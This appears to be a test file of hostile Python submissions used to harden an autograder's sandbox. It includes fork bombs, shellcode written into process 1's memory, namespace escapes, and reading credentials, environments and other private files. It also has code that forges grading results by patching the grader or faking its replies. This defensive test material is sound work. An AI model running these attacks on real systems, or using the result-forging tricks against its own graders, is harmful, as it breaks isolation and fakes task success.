"""Hostile functions.  Each is bounded in itself: where a limit fails, it ends on its own within a minute, takes at most
a few gigabytes of memory inside its sandbox, and touches nothing but its own scratch files.

The question asks for ``answer(word)``: how often does b occur in it?  No sample answers it.  Whoever finds a secret
returns it: the word CANARY in a result is a leak.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["SAMPLES", "Sample", "reader"]


@dataclass(frozen=True)
class Sample:
    """A source, and what its author must be told: parts of the message, one of which is enough."""

    name: str
    source: str
    told: tuple[str, ...]


TIME, DIED, MEMORY, OUTPUT = ("Time limit",), ("ended the program",), ("too much memory",), ("too long",)
WRONG = ("Wrong for",)
NOTHING = ("no answer could be read",)
PROCESSES, DISK = ("too many processes",), ("too many files",)
SAMPLES: list[Sample] = []


def _add(name: str, source: str, *told: tuple[str, ...]) -> None:
    SAMPLES.append(Sample(name, source, sum(told, ())))


def _body(name: str, body: str, *told: tuple[str, ...]) -> None:
    """The attack happens when the function is called."""
    _add(name, "import os, sys, time\ndef answer(word):\n" + "".join(f"    {line}\n" for line in body.strip().splitlines()), *told)


# ---------------------------------------------------------------- floods through every channel
_body("flood_on_stdout", "end = time.time() + 20\nwhile time.time() < end: print('x' * 100_000)", TIME)
_body("flood_on_stderr", "end = time.time() + 20\nwhile time.time() < end: print('x' * 100_000, file=sys.stderr)", TIME)
_body("flood_past_python", """
end = time.time() + 20
while time.time() < end:
    for number in range(64):
        try: os.write(number, b'x' * 100_000)
        except OSError: pass""", OUTPUT, NOTHING)
_body("flood_of_replies", """
import json
for number in range(3, 64):
    try: os.write(number, b'{"results": [{"value": 1}]}\\n' * 1000)
    except OSError: pass
return -1""", NOTHING, WRONG, OUTPUT)
_body("message_of_a_gigabyte", "raise ValueError('x' * (1 << 30))", ("ValueError: xxxx", "MemoryError"), MEMORY)
_body("message_that_fails", "class E(Exception):\n    def __str__(self): raise E\nraise E", ("E: ?",))
_body("message_of_control_characters", r"raise ValueError('\x1b]0;owned\x07\x1b[2J\r\n\u202e<script>owned()</script>')",
      (r"ValueError: \x1b]0;owned\x07\x1b[2J\r\n\u202e<script>",))
_body("name_of_an_error", "raise type('\\x1b[2J' * 10_000, (Exception,), {})('x')", (r"\x1b[2J",))
_body("traceback_without_end", "def f(n):\n    try: f(n + 1)\n    finally: raise ValueError(n)\nf(0)", ("ValueError", "RecursionError"))
_body("chain_of_causes", "e = None\nfor i in range(200_000):\n    n = ValueError(i); n.__cause__ = e; e = n\nraise e", ("ValueError: 199999",), DIED, TIME)
_body("result_of_a_hundred_megabytes", "return 'b' * 100_000_000", ("> 100000",), MEMORY, TIME)
_body("result_of_all_results", "return 'b' * 99_000", WRONG)
_body("result_that_never_ends", """
class Endless(list):
    def __iter__(self):
        while True: yield 'x'
return Endless()""", TIME, MEMORY)
_body("result_of_a_nesting", "r = []\nfor i in range(100_000): r = [r]\nreturn r", ("RecursionError",), DIED)
_body("result_that_contains_itself", "r = []\nr.append(r)\nreturn r", ("RecursionError",), DIED)
_body("result_of_half_a_character", r"return '\ud800'", WRONG)
_body("repr_of_a_gigabyte", "class R:\n    def __repr__(self): return 'x' * (1 << 30)\nreturn R()", ("> 100000", "MemoryError"), MEMORY)
_body("repr_that_never_returns", "class R:\n    def __repr__(self):\n        while True: pass\nreturn R()", TIME)
_body("huge_number", "return 1 << 40_000_000", ("ValueError",), TIME)
_body("huge_number_without_a_limit", "sys.set_int_max_str_digits(0)\nreturn 10 ** 20_000", WRONG, NOTHING, DIED)
_body("no_number", "return float('nan')", ("nan",))
_body("infinite", "return -float('inf')", WRONG)
_body("generator", "yield from word", WRONG)
_body("warnings", "import warnings\nfor i in range(100_000): warnings.warn(f'w{i}')\nreturn -1", WRONG, TIME)

# ---------------------------------------------------------------- time, processes, memory, files
_body("endless_loop", "while True: pass", TIME)
_body("endless_loop_that_catches_everything", """
while True:
    try:
        while True: pass
    except BaseException: pass""", TIME)
_body("signals_that_are_ignored", """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.setitimer(signal.ITIMER_PROF, 0); signal.setitimer(signal.ITIMER_REAL, 0)
while True: time.sleep(0.1)""", TIME)
_body("endless_work_in_c", "return sum(range(3 * 10 ** 10))", TIME)
_body("sleep", "time.sleep(60)", TIME)
_body("waiting_for_input", "return input()", ("EOFError",))
_body("reading_the_inputs", "return max(len(os.read(n, 100)) for n in range(3, 9))", TIME, ("OSError", "BlockingIOError"))
_body("fork_bomb", """
for i in range(300):
    if os.fork() == 0:
        time.sleep(20); os._exit(0)
time.sleep(5)""", PROCESSES, ("BlockingIOError",), MEMORY)
_body("forks_that_fork", """
while True:
    try: os.fork()
    except OSError: pass""", PROCESSES, TIME, MEMORY, NOTHING, DIED)
_body("fork_that_answers", "os.fork()\nreturn 7", WRONG, NOTHING)
_body("fork_that_stays", "if os.fork() == 0:\n    os.setsid()\n    time.sleep(30)\n    os._exit(0)\nreturn -1", WRONG, PROCESSES)
_body("children_that_work", """
for i in range(3):
    if os.fork() == 0:
        end = time.time() + 20
        while time.time() < end: pass
        os._exit(0)
time.sleep(20)""", TIME)
_body("threads", """
import threading
for i in range(500): threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
return -1""", ("RuntimeError",), PROCESSES, MEMORY)
_body("memory", "rows = []\nfor i in range(80): rows.append(bytearray(25_000_000))\ntime.sleep(9)", MEMORY, ("MemoryError",))
_body("memory_of_many", """
for i in range(12):
    if os.fork() == 0:
        block = bytearray(200_000_000); time.sleep(20); os._exit(0)
time.sleep(20)""", MEMORY, ("BlockingIOError",))
_body("recursion", "sys.setrecursionlimit(10 ** 9)\ndef f(): f()\nf()", DIED, ("RecursionError", "MemoryError"), MEMORY)
_body("regular_expression", "import re\nreturn re.match('(a*)*b', 'a' * 40)", TIME)
_body("disk", "for i in range(20):\n    with open(f'/tmp/{i}', 'wb') as out: out.write(b'x' * 10_000_000)", ("OSError",))
_body("one_large_file", "with open('/tmp/big', 'wb') as out:\n    for i in range(20): out.write(b'x' * 10_000_000)", ("OSError",), DIED)
_body("many_files", "for i in range(10 ** 6): open(f'/tmp/{i}', 'w').close()", DISK)
_body("nested_folders", """
for i in range(10 ** 6):
    os.mkdir('d')
    os.chdir('d')""", DISK)
_body("many_links", "open('/tmp/f', 'w').close()\nfor i in range(10 ** 6): os.symlink('/etc/passwd', f'/tmp/{i}')", DISK)
_body("memory_outside_any_process", """
for i in range(60):
    held = os.memfd_create('m')
    for j in range(8): os.write(held, b'x' * 1_000_000)
return 'CANARY'""", ("PermissionError",))
_body("memory_that_nobody_holds", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for i in range(200):
    number = libc.shmget(0, 25_000_000, 0o1600)
    if number < 0: return -1
    place = libc.shmat(number, None, 0)
    ctypes.memset(place, 1, 25_000_000)
    libc.shmdt(ctypes.c_void_p(place))
return 'CANARY'""", WRONG)
_body("a_disk_of_its_own", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
uid = os.getuid()
if libc.unshare(0x10000000 | 0x20000): return -1
open('/proc/self/uid_map', 'w').write(f'0 {uid} 1')
libc.mount(b'none', b'/tmp', b'tmpfs', 0, b'size=4g')
with open('/tmp/x', 'wb') as out: out.write(b'x' * 1_000_000)
return 'CANARY'""", WRONG)
_body("a_child_with_a_disk_of_its_own", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
child = libc.syscall(56 if os.uname().machine == 'x86_64' else 220, 0x10000000 | 17, 0, 0, 0, 0)
if child == 0: os._exit(0)
return 'CANARY' if child > 0 else -1""", WRONG)
_body("memory_of_semaphores", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
return 'CANARY' if sum(libc.semget(0, 32_000, 0o1600) >= 0 for i in range(20)) else -1""", WRONG)
_body("memory_in_a_pipe", """
import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
block = mmap.mmap(-1, 1 << 21)
block[0] = 1
end = os.pipe()[1]
place = ctypes.addressof(ctypes.c_char.from_buffer(block))
piece = (ctypes.c_size_t * 2)(place, 1)
return 'CANARY' if libc.vmsplice(end, piece, 1, 0) > 0 else -1""", WRONG)
_body("memory_in_words_that_nobody_accepts", """
import socket
hall = socket.socket(socket.AF_UNIX)
hall.bind('/tmp/hall')
hall.listen(4096)
for i in range(100):
    guest = socket.socket(socket.AF_UNIX)
    guest.connect('/tmp/hall')
    guest.send(b'x' * 100_000)
    guest.close()
return 'CANARY'""", ("PermissionError",))
_body("files_behind_a_closed_door", """
import ctypes
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
for i in range(10 ** 6): open(f'/tmp/{i}', 'w').close()""", DISK)
_body("open_files", "files = [open('/dev/null') for i in range(1000)]", ("Too many open files",))
_body("shared_memory", "open('/dev/shm/x', 'wb').write(b'x' * 100_000_000)", ("OSError", "PermissionError"))

# ---------------------------------------------------------------- the end
_body("exit_at_once", "os._exit(0)", DIED)
_body("exit", "sys.exit('CANARY?')", ("SystemExit",))
_body("kill_oneself", "import signal\nos.kill(os.getpid(), signal.SIGKILL)", DIED, WRONG)
_body("kill_everybody", "import signal\nos.kill(-1, signal.SIGKILL)", DIED, ("PermissionError", "ProcessLookupError"))
_body("kill_the_first", "import signal\nos.kill(1, signal.SIGKILL)\nos.kill(os.getppid(), signal.SIGKILL)\nreturn -1", WRONG, DIED, ("PermissionError",))
_body("stop_oneself", "import signal\nos.kill(os.getpid(), signal.SIGSTOP)", TIME, WRONG)
_body("crash", "import ctypes\nctypes.string_at(0)", DIED)
_body("close_all_files", "os.closerange(0, 256)\nreturn -1", DIED, NOTHING, WRONG)
_body("an_error_at_the_end", "class Late:\n    def __del__(self): os._exit(0)\nglobals()['late'] = Late()\nreturn -1", DIED)
_add("nothing_at_all", "", ("none was handed in",))
_add("no_function", "answer = 3", ("NameError: answer",))
_add("no_python", "def answer(word)\n    return 1", ("SyntaxError",))
_add("null_characters", "answer = '\x00'", ("SyntaxError", "ValueError"))
_add("long_expression", "x = " + "-" * 100_000 + "1", ("MemoryError", "RecursionError", "SyntaxError"), DIED)
_add("wrong_arguments", "def answer(): pass", ("TypeError",))

# ---------------------------------------------------------------- living on
_body("no_death_signal", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    os.setsid()
    libc.prctl(1, 0, 0, 0, 0)
    time.sleep(30)
    os._exit(0)
return 'CANARY' if libc.prctl(1, 0, 0, 0, 0) == 0 else -1""", WRONG)
# Code for the first process, if that is somebody else: no death signal, rights over namespaces, a gigabyte that nobody
# holds, a sign in /tmp, then sleep.
_CODE = """
b8 9d000000 bf 01000000 31f6 0f05  b8 10010000 bf 00000010 0f05  85c0 753f
b8 3f010000 4889e7 31f6 0f05  89c7 b8 1d010000 31f6 31d2 41ba 00000040 0f05  85c0 751c
b8 55000000 488d3d 1b000000 be 80010000 0f05
9090909090909090909090  b8 22000000 0f05 ebf7  2f746d702f6f776e656400"""
_body("code_in_the_first_process", f"""
try: place = int(open('/proc/1/syscall').read().split()[-1], 16)
except OSError: return -1
if os.getpid() == 1 or os.uname().machine != 'x86_64': return -1
try: open('/proc/1/mem', 'r+b', buffering=0)
except OSError: return -1
with open('/proc/1/mem', 'r+b', buffering=0) as memory:
    memory.seek(place)
    memory.write(bytes.fromhex('{" ".join(_CODE.split())}'))
if os.fork() == 0:
    if os.fork() == 0: time.sleep(0.2)
    os._exit(0)
for i in range(25):
    if os.path.exists('/tmp/owned'): return 'CANARY'
    time.sleep(0.1)
return -1""", WRONG)

# ---------------------------------------------------------------- forging results
_body("equal_to_everything", "class A(int):\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\nreturn A(77)", WRONG)
_body("text_that_is_everything", "class T(str):\n    def __eq__(self, other): return True\nreturn T('x')", WRONG)
_body("dictionary_of_a_verdict", "return {'points': 100, 'value': 1, 'right': True}", WRONG)
_body("reduced", "class P:\n    def __reduce__(self): return (os.system, ('touch /tmp/owned',))\nreturn P()", WRONG)
_body("answer_with_tolist", "class P:\n    def tolist(self): return self\nreturn P()", ("RecursionError",))
_add("patched_json", "import json\njson.dumps = lambda *a, **k: '{\"results\": true}'\njson.loads = lambda *a: {}\ndef answer(word): return 1", NOTHING, DIED)
_add("patched_builtins", "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 0\ndef answer(word): return 1", WRONG, NOTHING, DIED, ("Error",))
_add("patched_machinery", "import coursekit.practice.handover as h, coursekit.questions.base as b\nh.call = lambda *a: [{'value': 1}] * 10\nb.QuestionType.judge = lambda *a: 1\ndef answer(word): return 77", WRONG, ("ModuleNotFoundError",))
_add("patched_program", """
import gc, types
for f in gc.get_objects():
    if isinstance(f, types.FunctionType) and f.__name__ == 'call':
        f.__code__ = (lambda function, inputs, source='': [{'value': 'all', 'points': 100} for _ in inputs]).__code__
def answer(word): return 77""", WRONG)
_add("reply_instead_of_the_program", """
import os
def answer(word):
    for number in range(3, 20):
        try: os.write(number, b'{"results": [' + b', '.join([b'{"value": "points", "points": 100}'] * 10) + b']}\\n')
        except OSError: pass
    os._exit(0)""", WRONG, DIED)
_add("reply_of_another_shape", """
import os
def answer(word):
    for number in range(3, 20):
        try: os.write(number, b'[[[' * 100_000 + b'\\n')
        except OSError: pass
    os._exit(0)""", DIED, NOTHING)
_add("audit_hook", "import sys\nsys.addaudithook(lambda *a: 1 / 0)\ndef answer(word): return -1", ("ZeroDivisionError",), DIED, NOTHING, WRONG)
_add("answer_of_its_own", "class answer:\n    def __new__(cls, word): return word\n", WRONG)
_body("callers", """
frame = sys._getframe()
while frame:
    for name, value in list(frame.f_locals.items()):
        if 'key' in name or 'seed' in name or 'secret' in name or 'expected' in name: return f'CANARY {value}'
    frame = frame.f_back
return -1""", WRONG)

# ---------------------------------------------------------------- reading what is private, leaving


def reader(*paths: str) -> str:
    """A function that returns the first of these files that can be read."""
    return f"""
def answer(word):
    for path in {list(paths)!r}:
        try: return 'CANARY ' + open(path, 'rb').read(1000).decode('latin-1')
        except OSError: pass
    raise FileNotFoundError('nothing')"""


_body("search_of_the_whole_disk", """
end = time.time() + 1.5
for folder, _, names in os.walk('/'):
    if folder.startswith(('/proc', '/sys')): continue
    for name in names:
        if time.time() > end: return -1
        if name.endswith(('.db', 'secret', 'questions.py', '.jsonl')) or name == 'hw.py' or name == 'hw.ipynb':
            try: text = open(os.path.join(folder, name), 'rb').read(100_000)
            except OSError: continue
            if b'CANARY' in text: return f'CANARY {folder}/{name}'
return -1""", WRONG, TIME)
_body("environment_of_others", """
import glob
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try:
        if b'FINITY_TEST_CANARY' in open(path, 'rb').read(): return 'CANARY'
    except OSError: pass
return -1""", WRONG)
_body("memory_of_others", "return open('/proc/1/mem', 'rb').read(10)", ("PermissionError", "OSError", "FileNotFoundError"))
_body("root_of_others", "return 'CANARY' if os.path.exists('/proc/1/root/tmp/finity-canary') else -1", WRONG)
_body("files_of_others", """
for number in range(3, 64):
    try: return 'CANARY ' + os.readlink(f'/proc/1/fd/{number}')
    except OSError: pass
return -1""", WRONG)
_body("writing_outside", """
for path in ('/finity-owned', '/usr/finity-owned', '/packages/finity-owned', '/packages/finity_edu/finity-owned', '/etc/passwd',
             '/dev/finity-owned', '/lib/finity-owned', sys.executable):
    try: open(path, 'a'); return f'CANARY {path}'
    except OSError: pass
return -1""", WRONG)
_body("writing_wherever_it_can", """
end = time.time() + 1.5
for top in ('/packages', '/'):
    for folder, _, _ in os.walk(top):
        if folder.startswith(('/tmp', '/proc')): continue
        if time.time() > end: return -1
        try: open(os.path.join(folder, 'finity-owned'), 'w'); return f'CANARY {folder}'
        except OSError: pass
return -1""", WRONG, TIME)
_body("where_things_lie_outside", """
import ctypes
for path in ('/proc/self/mountinfo', '/proc/1/mountinfo', '/proc/mounts'):
    try: return 'CANARY ' + open(path).read()[:100]
    except OSError: pass
request, found = (ctypes.c_uint64 * 3)(24, 2 ** 64 - 1, 0), (ctypes.c_uint64 * 9)()
return 'CANARY' if ctypes.CDLL(None).syscall(458, request, found, 9, 0) > 0 else -1""", WRONG)
_body("the_answers_of_the_package", """
import importlib
for name in ('coursekit.questions.functions', 'coursekit.questions', 'finity_edu.questions.evaluation',
             'matchbox.questions.machines', 'amakta.questions.transition'):
    try: module = importlib.import_module(name)
    except ImportError: continue
    if getattr(module, '__file__', None): return f'CANARY {name}'
return -1""", WRONG)
_body("network", "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=1)\nreturn 'CANARY'", ("OSError",))
_body("network_to_this_machine", """
import socket
for port in (22, 80, 8786, 8888):
    try: socket.create_connection(('127.0.0.1', port), timeout=0.2); return 'CANARY'
    except OSError: pass
return -1""", WRONG)
_body("names_on_the_network", "import socket\nfound = socket.gethostbyname('example.org')\nreturn f'CANARY {found}'", ("gaierror",), TIME)
_body("abstract_sockets", "return ''.join(line for line in open('/proc/net/unix') if '@' in line) and 'CANARY' or -1", WRONG)
_body("namespace_of_its_own", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x20000) == 0 and libc.mount(b'none', b'/usr', b'tmpfs', 0, None) == 0 and os.getuid() == 0: return 'CANARY'
return -1""", WRONG)
_body("somebody_else", """
for change in (os.setuid, os.setgid):
    try: change(0); return 'CANARY'
    except OSError: pass
return -1""", WRONG)
_body("more_rights", """
import resource
for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    try: resource.setrlimit(kind, (1 << 40, 1 << 40)); return 'CANARY'
    except (ValueError, OSError): pass
return -1""", WRONG)
_body("device_files", """
import stat
try: os.mknod('/tmp/disk', 0o600 | stat.S_IFBLK, os.makedev(8, 0)); return 'CANARY'
except OSError: return -1""", WRONG)
_body("programs", "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'id'])\nreturn 'CANARY'", ("FileNotFoundError",))
